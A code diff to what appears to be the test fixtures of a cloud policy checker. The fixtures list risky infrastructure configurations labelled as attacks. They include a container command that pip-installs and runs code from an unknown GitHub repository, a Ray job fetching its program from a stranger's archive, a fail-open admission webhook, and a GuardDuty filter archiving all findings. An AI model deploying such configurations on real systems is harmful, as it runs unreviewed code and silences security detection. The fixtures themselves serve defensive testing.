@@ -17,6 +17,7 @@ OURS = f"{GROUP}/providers/Microsoft"
 STACK = Given("pulumi:pulumi:Stack", {}, "falaj-prod-uae")
 BIG = {"cpu": "16", "memory": "64Gi"}
 BUYS = "an autoscaler of another stack buys the machines"
+TRAIN = "registry.example.ae/train@sha256:" + "a" * 64
 MIG = "nvidia.com/mig-7g.80gb"
 
 
@@ -129,7 +130,7 @@ ATTACKS = (
             "triggerType": "Schedule", "replicaTimeout": 86400, "replicaRetryLimit": 5,
             "scheduleTriggerConfig": {
                 "cronExpression": "* * * * *", "parallelism": 100, "replicaCompletionCount": 100}},
-        "template": {"containers": [{"name": "train", "image": "crbank.azurecr.io/train@sha256:" + "a" * 64,
+        "template": {"containers": [{"name": "train", "image": TRAIN,
                                      "resources": {"cpu": 24, "memory": "220Gi"}}]}})),
         "critical", "runs of a day pile up: 144,000 copies (Azure Container Apps, 'Jobs')"),
     Attack("a workload clones the program of a stranger from a listed host", ESC, (workload("apps/v1:Deployment", {
@@ -145,7 +146,7 @@ ATTACKS = (
             "pip install --no-deps git+https://github.com/someone/tools@0a1b2c3d4e5f60718293a4b5c6d7e8f901234567 && "
             "exec python -m orders"]}, replicas=1),),
         "critical", "nobody reviewed it: a fixed version says what runs, and not whose (pip, 'VCS Support')"),
-    Attack("a job of Ray fetches its program from a stranger's archive", ESC, (crd("ray.io/v1:RayJob", {
+    Attack("a job of Ray fetches its program from a stranger's archive", (*ESC, "FJ-RES-"), (crd("ray.io/v1:RayJob", {
         "entrypoint": "python main.py", "shutdownAfterJobFinishes": True,
         "runtimeEnvYAML": "working_dir: https://github.com/someone/jobs/archive/refs/heads/main.zip\n",
         "rayClusterSpec": {"headGroupSpec": {"rayStartParams": {}, "template": {
@@ -174,8 +175,8 @@ ATTACKS = (
         "practices')"),
     Attack("the admission of policies fails open", ESC, (
         k8s("admissionregistration.k8s.io/v1:ValidatingWebhookConfigurationPatch", {
-            "metadata": {"name": "kyverno-resource-validating-webhook-cfg"}, "webhooks": [{
-                "name": "validate.kyverno.svc-fail", "failurePolicy": "Ignore", "timeoutSeconds": 1}]}),),
+            "metadata": {"name": "policies"}, "webhooks": [{
+                "name": "policies.platform.svc", "failurePolicy": "Ignore", "timeoutSeconds": 1}]}),),
         "critical", "whatever takes a second longer is admitted unseen (Kubernetes, 'Failure policy')"),
     Attack("a filter archives every finding", ESC, (aws("guardduty/Filter", {
         "detectorId": "12abc34d567e8fa901bc2d34e56789f0", "name": "noise", "action": "ARCHIVE", "rank": 1, "tags": TAGS,
